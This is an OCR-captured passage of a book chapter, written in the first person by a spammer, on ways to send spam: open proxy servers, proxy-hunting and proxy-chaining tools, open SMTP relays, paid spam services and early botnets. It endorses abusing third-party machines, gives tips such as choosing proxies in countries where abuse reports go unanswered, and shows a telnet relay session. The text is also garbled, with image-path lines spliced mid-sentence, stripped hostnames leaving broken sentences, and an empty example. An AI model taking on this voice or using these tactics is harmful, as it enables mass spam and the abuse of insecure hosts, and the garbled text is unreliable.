Methods of Sending Spam

 < Day Day Up >

Humans are creatures of habit; we all have a preferred method for doing day-to-day activities and we tend to stick to that one way—the way that works. Spam is no different. Spammers often have a favorite or preferred method with which to send spam, and they will stick to this method until something more effective catches their eye.

There are many variations on how to send spam, and for every topic listed here I can list five variations. I will attempt to cover the core technology used behind sending spam, from the most popular methods to the oldest methods. It’s all about getting an e-mail into someone’s in-box.

Proxy Servers

Proxy servers are the most widely used method of sending spam today. A proxy server is a server used within a networkthat other computers use as a gateway to the Internet. Products such as Wingate, Squid, and ISA servers are common over the Internet. Their functionality differs and each support different protocols. A commonly used protocol is Socks v4 and v5. A default Socks server setup allows “clients” to connect to any other host on any other port that the server can talk to.

The problem occurs when the proxy server is set up to think that the external world (the Internet) is its client, and allows them to connect through the proxy server then back to the Internet. This is a problem because the proxy server, hiding the source IP address of the real client, establishes all connections.

As seen in Figure 3.1, I am using my laptop to send spam to “Mailserver.” is my own private IP from my ISP, which I don’t want anyone to see, so I configure my spamming program to use proxy server This causes the proxy server to connect to the Mailserver and send the message for me.

click to expand
Figure 3.1: Proxy Servers

The connection to the Mailserver comes from not, and the message is delivered without any trace of my real IP. For a single message this works fine; however, problems arise when you want to send more than one message.Let’s say I am going to try to deliver one million e-mails to addresses. If AOL detects that a single mail host proxy server is trying to send them one million e-mails, they will reject everything and report the IP to an RBL as suspicious.

Other mail servers can then look at the RBL when a server attempts to deliver them mail, and detect if they are a known spam host or not. This is where large amounts of proxy servers come into play; an average spam run would never use just one proxy server. At the very least, I use ten and they have to be very solid, newly found proxyservers that are not already in an RBL. (Ten is still a fairly low number, as I have used close to 300 before.) Generally, the more you use the better the results, as a distributed spam will have fewer hosts blacklisted and more e-mails sent simultaneously.

You might be wondering, how one comes across 300 proxy servers. Proxy servers are actually big money these days, and many online marketing companies sell access to proxy server lists for $30.00 to $40.00 a month. It is not just spammers and other unscrupulous people that find use in proxy servers; there is a fair amount of interest in them for other more legitimate means. Filtering is a good example. Many companies and even a few countries filter what their users can see by controlling what Web sites they can visit. In a situation like this, a proxy server provides someone with access to an external Web site, giving free access to information. Many free proxy server sites have sprung up, mostly focused at bypassing filtering attempts or increasing user privacy by hiding their IP from intruding Web sites. One such site (and my personal favorite) is

As can be seen in Figure 3.2, the majority of proxy servers in this list are all cable or Digital Subscriber Line (DSL) users, probably sharing an Internet connection to multiple computers within their home. Recently,, a large American-based cable provider, announced they would block all outgoing port 25 traffic in an attempt to reduce the amount of insecure machines on their network sending spam. Thisresulted in Comcast’s spam estimates decreasing over 43 percent. Original estimates at placed Comcast’s users guilty of sending between 1 percent and 10 percent of all spam sent globally.

click to expand
Figure 3.2: My Favorite Proxy Resource Site

The downside to using alist of proxy servers to spam is the fact that other people may also be using it. This drastically reduces its possible lifetime and makes the host much more noticeable to RBLs. Therefore, it is important to find proxy servers that no one else is using. This can be achieved by scanning subnets for insecure proxy servers.

Using language and politics are advantageous when looking for a new proxy server. Often, when someone notices that there is an open proxy server sending them a lot of e-mail, they notify the owner of the proxy server. This causes the proxy server to be shut down and possibly the source IP to be disclosed. However, if the proxy server is in Korea or Japan, there’s potentially a large language barrier that exists, stopping any communication and increasing the lifespan of the proxy server. I have used proxy servers in Iraq and Afghanistan, which, for obvious reasons, makes it more unlikely that the hosts would be contacted about an insecure proxy they may have.

start sidebar
Tricks of the Trade…Proxy Hunting

Finding a proxy server is not hard. There are many applications available for scanning networks looking for common security flaws that exist in proxy servers.

Yet Another Proxy Hunter (YAPH) (http://proxylabs.netwu. com/yaph/) is one of my favorites. YAPH is an open source UNIX-based application that attempts to find Socksv.4 and v.5 and Hypertext Transfer Protocol (HTTP) connect servers on the Internet. It does this by stealthily utilizing proxy servers.

Another handy tool is SocksChain for windows (, developed by UFASOFT. SocksChain allows you to string together multiple socks servers so that your single proxy can itself use a proxy to talk to another proxy, and that proxy then talks to the desired Web site. This makes the source IP harderto find, and is great for paranoid spammers and hackers.

As can be seen in Figure 3.3, my HTTP request passed through six different hosts until it reached its final destination of XXX.163.208.121

click to expand
Figure 3.3: A Chain of Proxy Servers

end sidebar

Simple Mail Transfer Protocol Relays

The use of e-mail relays was the first real spamming method used on the Internet. An e-mail relay is much like a proxy server, but is used only for Simple Mail Transfer Protocol (SMTP). It acts as an SMTP server that delivers mail to other mail servers at a user’s request. This is normal for many situations; your own ISP’s SMTP server will probably allow you to relay mail through it. The problem occurs when the SMTP server allows anyone to relay, turning the mail server into a globally accessible e-mail gateway.start sidebar
Tricks of the Trade…Early Versions of sendmail

In the early versions of sendmail (the first widely used mail server), a default rule existed that allowed any user to relay mail. No matter who they were or where they were coming from, this e-mail exchange was readily available to anyone who wanted to use it. However, it was easily exploitable by spammers.

end sidebar

Example of a mail relay:

[spammer-x@spambox spammer-x]$ telnet 25 Trying Connected to Escape character is '^]'. 220 ESMTP HELO MAIL FROM: <> 250 SENDER OK RCPT TO: <> 250 RCPT OK DATA No you havent been punk'ed, you've been spammed! . OK Message Queued for delivery

In this example, receives an e-mail from and the e-mail’s originating IP address is This server is acting as an open relay. The solution to the open relay problem took over a year to implement. Sendmail and other mail servers began to ship only allowing the local host to relay by default,making sure that whoever else was allowed to relay was explicitly defined. More advanced SMTP servers began to emerge, all with similar default security rules of who could relay.

Notes from the Underground…


I attended a talk by Paul Vixie (the creator of sendmail) at a local Linux conference, where he spoke about the early days of sendmail, how it was always designed to be as easy as possible to send e-mails to each other. This included allowing any user to relay through any sendmail server. He seemed very shocked and hurt that spammers would exploit this trust for financial gain.

Ironically, though never intended, sendmail created the first wave of spammers, and was the sole reason so much spam erupted in the early days of the Internet.

Over time, security flaws found in sendmail allowed making relaying possible. One of my favorite flaws was quotes. If you sent an e-mail to relay with quotes around the e-mail address, it would relay it.

For example:


This was a subtle but huge design flaw, which once again enabled spammers to send millions of new spam e-mails. Over time, more security flaws became apparent in sendmail,and spammers sent even more spam through the servers. In fact, in another ironic twist, there have been so many flaws found in sendmail that Paul Vixie holds the record for the highest number of security advisories for any one person.

These days, SMTP relays are not used much for sending spam. Some hosts are still running very old versions of sendmail or a badly secured install; however, RBLs catch open relay servers quickly since they proactively test mail servers to see if they are acting as an open relay and then blacklist the host (see

This drastically reduced the amount of open relays on the Internet, but really only made spammers become more creative in how they send spam. In fact, since open SMTP relays have been detected and blacklisted so quickly by RBLs, statistics of the amount of spam sent have increased drastically. This shows that spammers have found much more efficient and harder to detect methods of sending spam. The harder the host is to detect as being insecure, the longer lifetime it will generally have.

Spam-Sending Companies

Say you’re interested in selling Viagra and weight-loss products on the Internet. You have read a lot about it, including some great success stories. You think you’re missing out on making easy money and are keen to get on the spam train. The only problem is that you are not technical. You don’t know what a proxy server is, and have no idea how to send bulk e-mail apart from using Outlook. What do you do?

Luckily for you, many companies have started offering a spam-sending service so that you do not have to send it yourself. You just write the e-mail, upload the e-mail contact list, and hit Go; your “spam provider” sends the e-mail for you. These services use different methods to send spam, each with varying success and varying prices. One such service is This company acts as a mail “relay” for your spam. You send them the e-mail and they deliver it using what they call “proxy routing,” so that your source IP address is never disclosed. For this particular company, costs range from a mere $100.00 for one million e-mails to $3,000.00 for 300 million e-mails.

Notes from the Underground…


A company that I used in the past charged $200.00 per one million e-mails. They sent the e-mails through hijacked Border Gateway Protocol (BGP) routes and I had great success with them, at times getting an average delivery rate of 90 percent. However, I stopped using them when I found out that they were harvesting my e-mail lists and spamming them with their own products.

I learned that this is a very common practice among spam-sending companies, and this is the reason I no longer use them. If a single spam company has 50 spammers using them, they have access to hundreds ofmillions of e-mails a month. If they spam 100 million and only get a 0.001 percent sign-up rate, they still stand to make a lot of money.

As mentioned in Chapter 2, individual spammers are among the most trustworthy people I have met. It always comes down to having to watch out for the corporations.

A much more appealing and hands-on solution that is offered by some spam companies is having your own mail server. Hosted in a remote country, usually with no laws prohibiting spamming, the hosting company allows you to send spam. Here you can send from a fast connection without any worries, sending via proxy servers or directly. You have to pay for this privilege, though. The starting cost is around $2,000.00 per month and the more exclusive mail servers (that come with a small range of IP’s) can go up to $5,000.00 to 6,000.00 per month. An example company that offers such a service is Their servers are located in China, and for $5,000.00 per month you can rent five of them.

Obviously, there is good money to be made,not only in spamming but also by helping spammers, as many companies now choose the legal road to profiting from the world of spam.


One of the largest problems with using either a proxy server or an SMTP relay to send e-mail is how easy it is to detect the insecure proxy or relay that is running. Both the system administrator and thespammer are on an even level. It comes down to a race against time until the proxy is detected and the host is black holed by the RBL. This has caused spammers to become even more creative, teaming up with hackers and worm and virus authors to create spamming networks called Botnets.

Botnets are armies of compromised machines (otherwise known as zombies). Controlled by a single master, these zombies can do anything, from performing a distributed DOS to sending spam. They are highly configurable and easy to maintain. Botnets are not new. In 1998, when Cult of the Dead Cow released backorifice (one ofthe first massively used Trojans), hackers began collecting huge amounts of compromised systems and installing backorifice on them. They soon had hundreds of zombies under their control. However, controlling 100 hosts oneby one was not very efficient; backorifice’s design only worked well for controlling a small amount of hosts. This 